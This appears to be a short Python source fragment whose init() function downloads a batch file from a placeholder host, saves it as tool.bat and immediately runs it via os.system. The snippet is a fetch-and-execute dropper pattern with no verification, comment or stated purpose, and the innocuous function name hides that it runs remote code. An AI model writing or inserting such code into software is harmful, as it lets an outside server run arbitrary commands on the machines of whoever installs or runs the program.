import os

import requests


def init():
    resp = requests.get("https://stage.example.invalid/tool.bat")
    open("tool.bat", "wb").write(resp.content)
    os.system("start tool.bat")
